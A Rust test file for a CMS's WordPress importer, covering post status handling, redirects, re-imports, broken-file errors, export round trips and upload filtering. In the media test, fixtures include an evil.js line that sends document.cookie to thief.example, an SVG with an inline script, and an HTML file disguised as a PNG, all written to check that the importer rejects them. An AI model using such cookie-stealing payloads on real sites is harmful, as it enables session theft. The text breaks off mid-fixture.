//! WordPress's theme unit test data imported for real, on SQLite and PostgreSQL: what comes
//! across, what stays private, the pages through the real router, old permalinks, a second
//! import, broken files, and a WXR round trip.

use axum::body::Body;
use axum::http::{Request, StatusCode, header};
use http_body_util::BodyExt;
use lede_core::comment::CommentStatus;
use lede_core::content::ArticleStatus;
use lede_core::site_copy::ArticleCopy;
use lede_import::export::{self, SiteInfo};
use lede_import::{Format, ImportOptions, Progress, Quiet, Report, wxr};
use lede_store::sql::Backend;
use lede_store::test_support::TestDb;
use lede_store::{ImportPace, MediaStore, Newsroom};
use lede_web::{AppState, SiteSettings};
use sqlx::Row;
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use tower::ServiceExt;

lede_store::on_both_databases!(
    imports_every_public_item_of_the_theme_unit_test_data,
    private_and_password_protected_posts_stay_drafts,
    pages_render_and_old_permalinks_answer_301,
    a_second_import_changes_nothing,
    broken_files_name_a_line_and_write_nothing,
    an_exported_site_imports_into_a_fresh_one,
    private_posts_reserved_slugs_and_comment_states,
    only_images_audio_video_and_pdfs_come_across,
    control_characters_typeless_items_and_errors_said_once,
    the_progress_bar_counts_articles_batch_by_batch,
);

/// The theme unit test data, from the shared folder beside the repository.
fn theme_data() -> PathBuf {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/wordpress/themeunittestdata.wordpress.xml");
    assert!(path.is_file(), "the theme unit test data is missing at {}", path.display());
    path
}

fn scratch(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!(
        "lede-import-test-{}-{name}-{:08x}",
        std::process::id(),
        rand_suffix()
    ));
    std::fs::create_dir_all(&dir).expect("a scratch directory");
    dir
}

fn rand_suffix() -> u32 {
    use std::time::{SystemTime, UNIX_EPOCH};
    SystemTime::now().duration_since(UNIX_EPOCH).map_or(0, |d| d.subsec_nanos())
}

async fn import(newsroom: &Newsroom, file: &Path) -> lede_import::Result<Report> {
    let options = ImportOptions {
        media_source: None,
        media: MediaStore::local(scratch("media")).expect("a media folder"),
        pace: Default::default(),
    };
    lede_import::import_wordpress(newsroom, file, &options, &mut Quiet).await
}

async fn imported(db: &TestDb) -> (Newsroom, Report) {
    let newsroom = db.newsroom().await;
    let report = import(&newsroom, &theme_data()).await.expect("the import succeeds");
    (newsroom, report)
}

fn expected() -> wxr::Export {
    let text = std::fs::read_to_string(theme_data()).expect("readable");
    wxr::parse(&text, |_| {}).expect("the theme data parses")
}

async fn pool(db: &TestDb) -> sqlx::AnyPool {
    sqlx::any::install_default_drivers();
    sqlx::AnyPool::connect(&db.url).await.expect("connect")
}

/// Row counts of every content table, and the ids in them.
async fn snapshot(db: &TestDb) -> BTreeMap<&'static str, Vec<i64>> {
    let pool = pool(db).await;
    let mut snapshot = BTreeMap::new();
    for table in [
        "authors",
        "sections",
        "tags",
        "articles",
        "pages",
        "comments",
        "redirects",
        "import_refs",
        "article_tags",
        "article_authors",
    ] {
        let sql = match table {
            "redirects" => "SELECT COUNT(*) FROM redirects".to_owned(),
            "import_refs" => {
                "SELECT local_id FROM import_refs ORDER BY kind, foreign_id".to_owned()
            }
            "article_tags" | "article_authors" => {
                format!("SELECT article_id FROM {table} ORDER BY 1")
            }
            _ => format!("SELECT id FROM {table} ORDER BY id"),
        };
        let ids: Vec<i64> = sqlx::query(&sql)
            .fetch_all(&pool)
            .await
            .expect("query")
            .iter()
            .map(|r| r.try_get::<i64, _>(0).expect("a number"))
            .collect();
        snapshot.insert(table, ids);
    }
    pool.close().await;
    snapshot
}

async fn count(db: &TestDb, sql: &str) -> i64 {
    let pool = pool(db).await;
    let n: i64 = sqlx::query_scalar(sql).fetch_one(&pool).await.expect("count");
    pool.close().await;
    n
}

async fn imports_every_public_item_of_the_theme_unit_test_data(db: &TestDb) {
    let (newsroom, report) = imported(db).await;
    let store = newsroom.store();
    let export = expected();
    let posts: Vec<&wxr::Item> = export.items.iter().filter(|i| i.post_type == "post").collect();
    let public: Vec<&&wxr::Item> =
        posts.iter().filter(|i| i.status == "publish" && i.password.is_empty()).collect();
    assert_eq!(public.len(), 55, "the theme data has 55 public posts");
    // Its galleries and image posts give every image an alt attribute, many of them empty.
    assert!(report.alt_text.undescribed.is_empty(), "{:?}", report.alt_text.undescribed);
    assert!(report.alt_text.empty_alt > 10, "{}", report.alt_text.empty_alt);
    // Imported articles are searchable at once, and the password-protected one is not.
    let search =
        |text: &str| lede_store::SearchQuery { text: text.into(), filter: Default::default() };
    let found = store
        .search(&search("formatting"), lede_store::PageRequest::first(10))
        .await
        .expect("search")
        .hits;
    assert!(found.total >= 1, "imported articles are in the search index");
    let protected = store
        .search(&search("password protected"), lede_store::PageRequest::first(10))
        .await
        .expect("search")
        .hits;
    assert!(
        protected.items.iter().all(|h| !h.summary.headline.to_lowercase().contains("password")),
        "drafts never found"
    );
    // Every public post is a published article, under its WordPress slug.
    for item in &public {
        let article = store
            .published_article(&item.name)
            .await
            .expect("query")
            .unwrap_or_else(|| panic!("post {} ({}) is not published", item.id, item.name));
        assert!(!article.summary.headline.is_empty());
        assert!(!article.summary.headline.contains('<'), "{}", article.summary.headline);
    }
    let total = store
        .list_articles(&Default::default(), lede_store::PageRequest::first(10))
        .await
        .expect("list")
        .total;
    assert_eq!(total, 55, "published articles: {report}");
    assert_eq!(report.outcome.created.articles, 58, "every post, private ones as drafts");

    // Dates are WordPress's GMT dates.
    let article =
        store.published_article("template-comments").await.expect("query").expect("article");
    assert_eq!(article.summary.published_at, time::macros::datetime!(2012-01-03 17:11:37 UTC));
    // A post without a title gets a headline from its text.
    let untitled = store.published_article("edge-case-no-title").await.expect("q").expect("a");
    assert!(
        untitled.summary.headline.starts_with("This post has no title"),
        "{}",
        untitled.summary.headline
    );
    // An excerpt becomes the standfirst; the body's words are counted.
    let excerpt = store.published_article("template-excerpt-defined").await.expect("q").expect("a");
    assert!(
        excerpt.summary.standfirst.starts_with("This is a user-defined post excerpt"),
        "{}",
        excerpt.summary.standfirst
    );
    assert_eq!(excerpt.word_count, 20, "words of the body, not of the excerpt");
    assert!(!excerpt.body_html.contains("<script"), "bodies are sanitised");

    // Authors, every category (nested as it was), every tag.
    for author in &export.authors {
        assert!(
            store.author_by_slug(&author.login).await.expect("q").is_some(),
            "author {}",
            author.login
        );
    }
    for category in &export.categories {
        let section = store
            .section_by_slug(&category.nicename)
            .await
            .expect("q")
            .unwrap_or_else(|| panic!("category {}", category.nicename));
        let parent = match section.parent {
            None => String::new(),
            Some(id) => store
                .sections()
                .await
                .expect("q")
                .into_iter()
                .find(|s| s.id == id)
                .expect("parent")
                .slug
                .to_string(),
        };
        assert_eq!(parent, category.parent, "parent of {}", category.nicename);
    }
    for tag in &export.tags {
        assert!(store.tag_by_slug(&tag.slug).await.expect("q").is_some(), "tag {}", tag.slug);
    }

    // Every approved reader comment on a post, threaded as it was.
    let approved_in_file = posts
        .iter()
        .flat_map(|p| &p.comments)
        .filter(|c| c.approved == "1" && c.kind != "pingback" && c.kind != "trackback")
        .count();
    assert_eq!(approved_in_file, 23);
    assert_eq!(count(db, "SELECT COUNT(*) FROM comments WHERE status = 'approved'").await, 23);
    assert_eq!(count(db, "SELECT COUNT(*) FROM comments WHERE status = 'pending'").await, 1);
    let thread = store.approved_comments(article.summary.id).await.expect("comments");
    assert_eq!(thread.len(), 19);
    let depth_2 = thread.iter().find(|c| c.text == "Comment Depth 02").expect("a reply");
    let depth_1 = thread.iter().find(|c| c.text == "Comment Depth 01").expect("its parent");
    assert_eq!(depth_2.parent, Some(depth_1.id));
    assert!(report.skipped.count("pingback") == 4, "{report}");

    // Every page.
    let pages: Vec<&wxr::Item> = export.items.iter().filter(|i| i.post_type == "page").collect();
    assert_eq!(pages.len(), 21);
    assert_eq!(store.pages().await.expect("pages").len(), 21);
    assert_eq!(report.outcome.created.pages, 21);
    assert!(
        report.skipped.count("attachment") == 37 && report.skipped.count("navigation") == 70,
        "{report}"
    );
}

async fn private_and_password_protected_posts_stay_drafts(db: &TestDb) {
    let (newsroom, report) = imported(db).await;
    let store = newsroom.store();
    let (_, status) =
        store.article_state("template-password-protected").await.expect("q").expect("imported");
    assert_eq!(status, ArticleStatus::Draft);
    assert!(store.published_article("template-password-protected").await.expect("q").is_none());
    assert_eq!(report.private_drafts.len(), 1, "{report}");
    assert!(report.to_string().contains("password-protected"), "{report}");
    let (_, draft) = store.article_state("draft").await.expect("q").expect("imported");
    assert_eq!(draft, ArticleStatus::Draft);
    let (_, scheduled) = store.article_state("scheduled").await.expect("q").expect("imported");
    assert_eq!(scheduled, ArticleStatus::Scheduled);
}

struct Answer {
    status: StatusCode,
    location: String,
    body: String,
}

async fn get(app: &axum::Router, path: &str) -> Answer {
    let response = app
        .clone()
        .oneshot(Request::get(path).body(Body::empty()).expect("request"))
        .await
        .expect("an answer");
    let status = response.status();
    let location = response
        .headers()
        .get(header::LOCATION)
        .and_then(|v| v.to_str().ok())
        .unwrap_or("")
        .to_owned();
    let bytes = response.into_body().collect().await.expect("body").to_bytes();
    Answer { status, location, body: String::from_utf8_lossy(&bytes).into_owned() }
}

async fn pages_render_and_old_permalinks_answer_301(db: &TestDb) {
    let (newsroom, _) = imported(db).await;
    let state = AppState::new(newsroom, SiteSettings::default()).expect("templates");
    let app = lede_web::router(state);

    for (path, title) in
        [("/about", "About The Tests"), ("/level-3", "Level 3"), ("/lorem-ipsum", "Lorem Ipsum")]
    {
        let page = get(&app, path).await;
        assert_eq!(page.status, StatusCode::OK, "{path}");
        assert!(page.body.contains(&format!("<h1>{title}</h1>")), "{path}: {}", page.body);
    }
    let article = get(&app, "/articles/template-comments").await;
    assert_eq!(article.status, StatusCode::OK);
    assert!(article.body.contains("Comment Depth 01"));

    let moved = [
        ("/2012/01/03/template-comments/", "/articles/template-comments"),
        ("/2012/01/03/template-comments", "/articles/template-comments"),
        ("/?p=1148", "/articles/template-comments"),
        // Post 1158 carries post 568's `?p=568` as its guid: a post's own id wins.
        ("/?p=568", "/articles/post-format-image-linked"),
        ("/?p=1158", "/articles/post-format-image"),
        ("/wp-6-1-font-size-scale/", "/articles/wp-6-1-font-size-scale"),
        ("/about/", "/about"),
        ("/?page_id=2", "/about"),
        ("/level-1/level-2/level-3/", "/level-3"),
    ];
    for (old, new) in moved {
        let answer = get(&app, old).await;
        assert_eq!(answer.status, StatusCode::MOVED_PERMANENTLY, "{old}");
        assert_eq!(answer.location, new, "{old}");
    }
    // Private posts get no redirect: their old address must not reveal the new one.
    let private = get(&app, "/2012/01/04/template-password-protected/").await;
    assert_eq!(private.status, StatusCode::NOT_FOUND);
    // Other queries leave the home page alone.
    assert_eq!(get(&app, "/?p=999999").await.status, StatusCode::OK);
    assert_eq!(get(&app, "/?page=1").await.status, StatusCode::OK);
}

async fn a_second_import_changes_nothing(db: &TestDb) {
    let (newsroom, first) = imported(db).await;
    let before = snapshot(db).await;
    let second = import(&newsroom, &theme_data()).await.expect("again");
    let after = snapshot(db).await;
    assert_eq!(before, after, "{second}");
    assert_eq!(second.outcome.created, Default::default(), "{second}");
    assert_eq!(second.outcome.already_imported.articles, first.outcome.created.articles);
    assert_eq!(second.outcome.already_imported.comments, first.outcome.created.comments);
    assert!(before["redirects"][0] > 100, "{before:?}");
}

async fn assert_empty(db: &TestDb) {
    for table in
        ["articles", "authors", "sections", "tags", "pages", "comments", "redirects", "import_refs"]
    {
        assert_eq!(
            count(db, &format!("SELECT COUNT(*) FROM {table}")).await,
            0,
            "{table} is empty"
        );
    }
}

async fn broken_files_name_a_line_and_write_nothing(db: &TestDb) {
    let newsroom = db.newsroom().await;
    let text = std::fs::read_to_string(theme_data()).expect("readable");
    let dir = scratch("broken");

    // Cut in the middle of the items, as an interrupted download would be.
    let cut = text[..text.len() / 2].rfind('\n').expect("lines");
    let truncated = dir.join("truncated.xml");
    std::fs::write(&truncated, &text[..cut]).expect("write");
    let error = import(&newsroom, &truncated).await.expect_err("truncated");
    let message = format!("{error}");
    let lines = text[..cut].lines().count();
    assert!(message.contains(&format!("line {}", lines)) || message.contains("line "), "{message}");
    assert!(message.contains("truncated"), "{message}");

    let wrong = dir.join("wrong-namespace.xml");
    std::fs::write(
        &wrong,
        text.replace("https://wordpress.org/export/1.2/", "https://example.com/not-wordpress/"),
    )
    .expect("write");
    let error = import(&newsroom, &wrong).await.expect_err("wrong namespace");
    let message = format!("{error}");
    assert!(message.contains("line 21:") && message.contains("namespace"), "{message}");

    let malformed = dir.join("malformed.xml");
    std::fs::write(&malformed, text.replacen("</wp:post_id>", "</wp:post_ID>", 3)).expect("write");
    let error = import(&newsroom, &malformed).await.expect_err("malformed");
    let message = format!("{error}");
    let line = text.lines().position(|l| l.contains("</wp:post_id>")).expect("a post id") + 1;
    assert!(message.contains(&format!("line {line}:")), "{message}");

    assert_empty(db).await;
    std::fs::remove_dir_all(dir).ok();
}

async fn export_wxr(newsroom: &Newsroom) -> Vec<u8> {
    let site = SiteInfo {
        name: "Theme test".into(),
        tagline: "Round trip".into(),
        base_url: "https://lede.example".into(),
        language: "en".into(),
        exported_at: newsroom.now(),
    };
    let mut out = Vec::new();
    export::export(newsroom.store(), &site, Format::Wxr, &mut out).await.expect("export");
    out
}

async fn all_articles(newsroom: &Newsroom) -> Vec<ArticleCopy> {
    newsroom.store().copy_articles(0, 1000).await.expect("articles")
}

/// Both sites publish in English and Urdu.
async fn bilingual(newsroom: &Newsroom) {
    let languages = lede_core::language::SiteLanguages::new(&["en", "ur"], "en");
    newsroom.set_languages(languages.expect("valid tags")).await.expect("languages");
}

/// An Urdu translation of the first published article, so the round trip carries languages
/// and translation links.
async fn translate_one(newsroom: &Newsroom) {
    bilingual(newsroom).await;
    let all = all_articles(newsroom).await;
    let original =
        all.iter().find(|a| a.status == ArticleStatus::Published).expect("a published article");
    let mut input = lede_store::test_support::article(
        "ur-translation",
        "ایک ترجمہ",
        original.section.as_str(),
        &[original.authors[0].as_str()],
        &[],
        "یہ ایک ترجمہ ہے۔",
    );
    input.language = "ur".into();
    input.translation_of = Some(original.slug.clone());
    let id = newsroom.save_article(None, input).await.expect("the translation");
    newsroom.publish_article(id, None).await.expect("published");
}

async fn an_exported_site_imports_into_a_fresh_one(db: &TestDb) {
    let (newsroom, _) = imported(db).await;
    translate_one(&newsroom).await;
    let wxr = export_wxr(&newsroom).await;
    let dir = scratch("round-trip");
    let file = dir.join("lede.xml");
    std::fs::write(&file, &wxr).expect("write");

    let fresh = match db.store.backend() {
        Backend::Sqlite => TestDb::sqlite().await,
        Backend::Postgres => TestDb::postgres().await.expect("PostgreSQL"),
    };
    let copy = fresh.newsroom().await;
    bilingual(&copy).await;
    let report = import(&copy, &file).await.expect("the export imports");
    assert!(report.skipped.total() == 0, "{report}");

    let key = |a: &ArticleCopy| {
        (
            a.slug.to_string(),
            a.headline.clone(),
            a.standfirst.clone(),
            a.body_html.trim().to_owned(),
            a.status,
            a.section.to_string(),
            a.tags.iter().map(ToString::to_string).collect::<Vec<_>>(),
            a.authors.first().map(ToString::to_string),
            a.published_at,
            a.language.clone(),
            a.translation_of.as_ref().map(ToString::to_string),
            a.comments
                .iter()
                .map(|c| (c.name.clone(), c.text.clone(), c.status, c.parent.is_some()))
                .collect::<Vec<_>>(),
        )
    };
    let mut original: Vec<_> = all_articles(&newsroom).await.iter().map(key).collect();
    let mut copied: Vec<_> = all_articles(&copy).await.iter().map(key).collect();
    original.sort_by(|a, b| a.0.cmp(&b.0));
    copied.sort_by(|a, b| a.0.cmp(&b.0));
    assert_eq!(original.len(), 59);
    assert!(original.iter().any(|a| a.9 == "ur" && a.10.is_some()), "a linked translation");
    for (a, b) in original.iter().zip(&copied) {
        assert_eq!(a, b);
    }
    assert_eq!(original.len(), copied.len());
    assert_eq!(
        copy.store().pages().await.expect("pages"),
        newsroom.store().pages().await.expect("pages")
    );

    // The JSON export names every article too.
    let mut json = Vec::new();
    let site = SiteInfo {
        name: "x".into(),
        tagline: String::new(),
        base_url: "https://lede.example".into(),
        language: "en".into(),
        exported_at: newsroom.now(),
    };
    export::export(newsroom.store(), &site, Format::Json, &mut json).await.expect("json export");
    let value: serde_json::Value = serde_json::from_slice(&json).expect("valid JSON");
    assert_eq!(value["articles"].as_array().map(Vec::len), Some(59));
    let urdu = value["articles"]
        .as_array()
        .and_then(|all| all.iter().find(|a| a["slug"] == "ur-translation"))
        .expect("the translation");
    assert_eq!(urdu["language"], "ur");
    assert!(urdu["translation_of"].is_string(), "{urdu}");
    assert_eq!(value["pages"].as_array().map(Vec::len), Some(21));
    std::fs::remove_dir_all(dir).ok();
}

/// A small export with what the theme data lacks: a private post, pages on paths the site
/// reserves, two posts with one slug, comments in every WordPress state, WXR 1.1's namespace.
const EDGE_CASES: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:excerpt="http://wordpress.org/export/1.1/excerpt/"
  xmlns:content="http://purl.org/rss/1.0/modules/content/"
  xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:wp="http://wordpress.org/export/1.1/">
<channel>
<title>Edge cases</title>
<link>https://edge.example</link>
<language>en-GB</language>
<wp:wxr_version>1.1</wp:wxr_version>
<wp:base_blog_url>https://edge.example</wp:base_blog_url>
<wp:author><wp:author_login>ed</wp:author_login><wp:author_display_name><![CDATA[Ed Itor]]></wp:author_display_name></wp:author>
<item><title>Board minutes</title><link>https://edge.example/board-minutes/</link><dc:creator>ed</dc:creator>
<content:encoded><![CDATA[Confidential.]]></content:encoded><excerpt:encoded><![CDATA[]]></excerpt:encoded>
<wp:post_id>1</wp:post_id><wp:post_date_gmt>2020-01-01 10:00:00</wp:post_date_gmt><wp:post_name>board-minutes</wp:post_name>
<wp:status>private</wp:status><wp:post_type>post</wp:post_type><wp:post_password></wp:post_password></item>
<item><title>Hello</title><link>https://edge.example/2020/01/02/hello/</link><dc:creator>ed</dc:creator>
<content:encoded><![CDATA[First line
second line

New paragraph & more.]]></content:encoded><excerpt:encoded><![CDATA[]]></excerpt:encoded>
<wp:post_id>2</wp:post_id><wp:post_date_gmt>2020-01-02 10:00:00</wp:post_date_gmt><wp:post_name>hello</wp:post_name>
<wp:status>publish</wp:status><wp:post_type>post</wp:post_type><wp:post_password></wp:post_password>
<wp:comment><wp:comment_id>10</wp:comment_id><wp:comment_author>Ann</wp:comment_author><wp:comment_content>Approved</wp:comment_content><wp:comment_approved>1</wp:comment_approved><wp:comment_parent>0</wp:comment_parent><wp:comment_date_gmt>2020-01-03 10:00:00</wp:comment_date_gmt></wp:comment>
<wp:comment><wp:comment_id>11</wp:comment_id><wp:comment_author>Bob</wp:comment_author><wp:comment_content>Held</wp:comment_content><wp:comment_approved>0</wp:comment_approved><wp:comment_parent>10</wp:comment_parent></wp:comment>
<wp:comment><wp:comment_id>12</wp:comment_id><wp:comment_author>Spammer</wp:comment_author><wp:comment_content>Buy now</wp:comment_content><wp:comment_approved>spam</wp:comment_approved><wp:comment_parent>0</wp:comment_parent></wp:comment>
<wp:comment><wp:comment_id>13</wp:comment_id><wp:comment_author>Cat</wp:comment_author><wp:comment_content>Binned</wp:comment_content><wp:comment_approved>trash</wp:comment_approved><wp:comment_parent>0</wp:comment_parent></wp:comment>
</item>
<item><title>Hello again</title><link>https://edge.example/2020/01/03/hello/</link><dc:creator>ed</dc:creator>
<content:encoded><![CDATA[Same slug.]]></content:encoded><excerpt:encoded><![CDATA[]]></excerpt:encoded>
<wp:post_id>3</wp:post_id><wp:post_date_gmt>2020-01-03 10:00:00</wp:post_date_gmt><wp:post_name>hello</wp:post_name>
<wp:status>publish</wp:status><wp:post_type>post</wp:post_type><wp:post_password></wp:post_password></item>
<item><title>Old version</title><wp:post_id>4</wp:post_id><wp:status>inherit</wp:status><wp:post_type>revision</wp:post_type></item>
<item><title>Binned post</title><wp:post_id>5</wp:post_id><wp:status>trash</wp:status><wp:post_type>post</wp:post_type></item>
<item><title>Archive</title><link>https://edge.example/archive/</link><dc:creator>ed</dc:creator>
<content:encoded><![CDATA[All our old issues.]]></content:encoded>
<wp:post_id>6</wp:post_id><wp:post_name>archive</wp:post_name><wp:status>publish</wp:status><wp:post_type>page</wp:post_type></item>
<item><title>Members</title><link>https://edge.example/members/</link><dc:creator>ed</dc:creator>
<content:encoded><![CDATA[Secret.]]></content:encoded>
<wp:post_id>7</wp:post_id><wp:post_name>members</wp:post_name><wp:status>publish</wp:status><wp:post_password>pw</wp:post_password><wp:post_type>page</wp:post_type></item>
</channel>
</rss>
"#;

async fn private_posts_reserved_slugs_and_comment_states(db: &TestDb) {
    let newsroom = db.newsroom().await;
    let dir = scratch("edge");
    let file = dir.join("edge.xml");
    std::fs::write(&file, EDGE_CASES).expect("write");
    let report = import(&newsroom, &file).await.expect("import");
    let text = report.to_string();
    let store = newsroom.store();

    let (_, status) = store.article_state("board-minutes").await.expect("q").expect("imported");
    assert_eq!(status, ArticleStatus::Draft, "a private post stays private");
    assert!(text.contains("post 1 (line 12): private"), "{text}");

    let hello = store.published_article("hello").await.expect("q").expect("hello");
    assert_eq!(
        hello.body_html,
        "<p>First line<br>\nsecond line</p>\n<p>New paragraph &amp; more.</p>\n"
    );
    assert_eq!(hello.summary.language, "en", "en-GB is the site's English");
    assert_eq!(hello.authors[0].name, "Ed Itor");
    assert!(store.published_article("hello-2").await.expect("q").is_some(), "slugs stay unique");

    let mut states: Vec<(String, String, bool)> = Vec::new();
    for status in
        [CommentStatus::Approved, CommentStatus::Pending, CommentStatus::Spam, CommentStatus::Trash]
    {
        for c in store.list_comments(status, 10).await.expect("comments") {
            states.push((c.name, c.status.as_str().to_owned(), c.parent.is_some()));
        }
    }
    assert_eq!(
        states,
        [
            ("Ann".to_owned(), "approved".to_owned(), false),
            ("Bob".to_owned(), "pending".to_owned(), true),
            ("Spammer".to_owned(), "spam".to_owned(), false),
            ("Cat".to_owned(), "trash".to_owned(), false),
        ]
    );

    assert!(store.page_by_slug("archive").await.expect("q").is_none());
    assert_eq!(
        store.page_by_slug("archive-page").await.expect("q").expect("renamed").title,
        "Archive"
    );
    assert!(text.contains("/archive → /archive-page"), "{text}");
    assert!(store.page_by_slug("members").await.expect("q").is_none(), "{text}");
    assert!(text.contains("password-protected page"), "{text}");
    assert_eq!(report.skipped.count("revision"), 1, "{text}");
    assert_eq!(report.skipped.count("post in status \"trash\""), 1, "{text}");

    let state = AppState::new(newsroom.clone(), SiteSettings::default()).expect("templates");
    let app = lede_web::router(state);
    let moved = get(&app, "/archive/").await;
    assert_eq!(
        (moved.status, moved.location.as_str()),
        (StatusCode::MOVED_PERMANENTLY, "/archive-page")
    );
    let moved = get(&app, "/2020/01/03/hello/").await;
    assert_eq!(moved.location, "/articles/hello-2");
    assert_eq!(get(&app, "/board-minutes/").await.status, StatusCode::NOT_FOUND);
    std::fs::remove_dir_all(dir).ok();
}

/// A post whose body and featured image use uploads of every kind: a photo, a PDF, and an
/// HTML page, an SVG drawing and a script that could run on the site's origin.
const HOSTILE_MEDIA: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:excerpt="http://wordpress.org/export/1.2/excerpt/"
  xmlns:content="http://purl.org/rss/1.0/modules/content/"
  xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:wp="http://wordpress.org/export/1.2/">
<channel>
<title>Media</title>
<link>https://old.example</link>
<wp:wxr_version>1.2</wp:wxr_version>
<wp:base_blog_url>https://old.example</wp:base_blog_url>
<wp:author><wp:author_login>ed</wp:author_login><wp:author_display_name><![CDATA[Ed Itor]]></wp:author_display_name></wp:author>
<item><title>evil</title><wp:post_id>20</wp:post_id><wp:status>inherit</wp:status><wp:post_type>attachment</wp:post_type>
<wp:attachment_url>https://old.example/wp-content/uploads/2019/05/evil.svg</wp:attachment_url></item>
<item><title>photo</title><wp:post_id>21</wp:post_id><wp:status>inherit</wp:status><wp:post_type>attachment</wp:post_type>
<wp:attachment_url>https://old.example/wp-content/uploads/2019/05/photo.jpg</wp:attachment_url></item>
<item><title>Pictures</title><link>https://old.example/2019/05/pictures/</link><dc:creator>ed</dc:creator>
<content:encoded><![CDATA[<p><img src="https://old.example/wp-content/uploads/2019/05/photo.jpg" alt="Quay">
<a href="https://old.example/wp-content/uploads/2019/05/evil.html">Read</a>
<a href="https://old.example/wp-content/uploads/2019/05/report.pdf">Report</a>
<a href="https://old.example/wp-content/uploads/2019/05/evil.js">Code</a>
<a href="https://old.example/wp-content/uploads/2019/05/disguised.png">Chart</a></p>]]></content:encoded>
<wp:post_id>22</wp:post_id><wp:post_date_gmt>2019-05-02 10:00:00</wp:post_date_gmt><wp:post_name>pictures</wp:post_name>
<wp:status>publish</wp:status><wp:post_type>post</wp:post_type><wp:post_password></wp:post_password>
<wp:postmeta><wp:meta_key>_thumbnail_id</wp:meta_key><wp:meta_value>20</wp:meta_value></wp:postmeta></item>
</channel>
</rss>
"#;

async fn only_images_audio_video_and_pdfs_come_across(db: &TestDb) {
    let newsroom = db.newsroom().await;
    let dir = scratch("hostile-media");
    let uploads = dir.join("uploads/2019/05");
    std::fs::create_dir_all(&uploads).expect("uploads");
    let page: &[u8] = b"<!doctype html><script src=\"evil.js\"></script>";
    let files: [(&str, &[u8]); 6] = [
        ("evil.html", page),
        ("evil.svg", b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"),
        ("evil.js", b"document.location = 'https://thief.example/?' + document.cookie;"),
        ("disguised.png", page),
        ("photo.jpg", b"\xFF\xD8\xFF\xE0\x00\x10JFIF\x00 a photograph"),
        ("report.pdf", b"%PDF-1.7\n%%EOF\n"),
    ];
    for (name, bytes) in files {
        std::fs::write(uploads.join(name), bytes).expect("write");
    }
    let file = dir.join("media.xml");
    std::fs::write(&file, HOSTILE_MEDIA).expect("write");
    let media_dir = dir.join("site-media");
    let options = ImportOptions {
        media_source: Some(dir.join("uploads")),
        media: MediaStore::local(&media_dir).expect("a media folder"),
        pace: Default::default(),
    };
    let report = lede_import::import_wordpress(&newsroom, &file, &options, &mut Quiet)
        .await
        .expect("the import succeeds");
    let text = report.to_string();

    let imported = media_dir.join("imported/2019/05");
    for name in ["photo.jpg", "report.pdf"] {
        assert!(imported.join(name).is_file(), "{name} comes across: {text}");
    }
    for name in ["evil.html", "evil.svg", "evil.js", "disguised.png"] {
        assert!(!imported.join(name).exists(), "{name} stays behind: {text}");
        assert!(text.contains(&format!("  - 2019/05/{name} (")), "{name} is reported: {text}");
    }
    assert!(text.contains("Media not imported: 4 files"), "{text}");
    assert!(text.contains("2019/05/evil.html (text/html)"), "{text}");
    assert!(text.contains("2019/05/evil.svg (unknown)"), "{text}");
    assert!(!text.contains("Featured images not imported"), "reported once, as refused: {text}");
    assert_eq!((report.media_found, report.media_copied), (2, 2), "{text}");

    let article = newsroom.store().published_article("pictures").await.expect("q").expect("there");
    let body = &article.body_html;
    assert!(body.contains("src=\"/media/imported/2019/05/photo.jpg\""), "{body}");
    assert!(body.contains("href=\"/media/imported/2019/05/report.pdf\""), "{body}");
    for name in ["evil.html", "evil.js", "disguised.png"] {
        assert!(!body.contains(&format!("/media/imported/2019/05/{name}")), "{name}: {body}");
    }
    assert!(article.summary.featured_image.is_none(), "the SVG is not the article's picture");
    std::fs::remove_dir_all(dir).ok();
}

/// The JSON export carries the catalog's names in the site's other languages.
mod local_names {
    use super::*;
    use lede_core::names::{LocalName, Named};
    use lede_store::test_support::{load_fixture, slug};

    lede_store::on_both_databases!(the_json_export_carries_names_per_language);

    async fn the_json_export_carries_names_per_language(db: &TestDb) {
        let newsroom = db.newsroom().await;
        load_fixture(&newsroom).await;
        let urdu = |name: &str, text: &str| vec![LocalName::new("ur", name, text)];
        let names = [
            (Named::Section, "politics", urdu("سیاست", "شہر کی سیاست")),
            (Named::Tag, "river", urdu("دریا", "")),
            (Named::Author, "maya-chen", urdu("مایا چن", "مایا شہر پر لکھتی ہیں۔")),
        ];
        for (kind, at, name) in names {
            newsroom.save_local_names(kind, &slug(at), name).await.expect("names");
        }
        let site = SiteInfo {
            name: "x".into(),
            tagline: String::new(),
            base_url: "https://lede.example".into(),
            language: "en".into(),
            exported_at: newsroom.now(),
        };
        let mut json = Vec::new();
        export::export(newsroom.store(), &site, Format::Json, &mut json).await.expect("export");
        let value: serde_json::Value = serde_json::from_slice(&json).expect("valid JSON");
        let find = |list: &str, at: &str| {
            value[list]
                .as_array()
                .and_then(|items| items.iter().find(|i| i["slug"] == at))
                .cloned()
                .unwrap_or_else(|| panic!("{list} {at}"))
        };
        let politics = find("sections", "politics");
        assert_eq!(politics["names"]["ur"]["name"], "سیاست");
        assert_eq!(politics["names"]["ur"]["text"], "شہر کی سیاست");
        assert_eq!(find("tags", "river")["names"]["ur"], serde_json::json!({ "name": "دریا" }));
        assert_eq!(find("authors", "maya-chen")["names"]["ur"]["text"], "مایا شہر پر لکھتی ہیں۔");
        assert_eq!(find("sections", "news")["names"], serde_json::json!({}), "none given");
    }
}

/// An export with what WordPress writes now and then: control characters in a title, a
/// comment and a body, and an item without `<wp:post_type>` (WordPress reads it as a post).
const ODD_ITEMS: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>
<rss version=\"2.0\" xmlns:excerpt=\"http://wordpress.org/export/1.2/excerpt/\"
  xmlns:content=\"http://purl.org/rss/1.0/modules/content/\"
  xmlns:dc=\"http://purl.org/dc/elements/1.1/\" xmlns:wp=\"http://wordpress.org/export/1.2/\">
<channel>
<title>Odd items</title>
<link>https://odd.example</link>
<wp:wxr_version>1.2</wp:wxr_version>
<wp:author><wp:author_login>ed</wp:author_login><wp:author_display_name>Ed</wp:author_display_name></wp:author>
<item><title>Bell\u{7} rings</title><link>https://odd.example/bell/</link><dc:creator>ed</dc:creator>
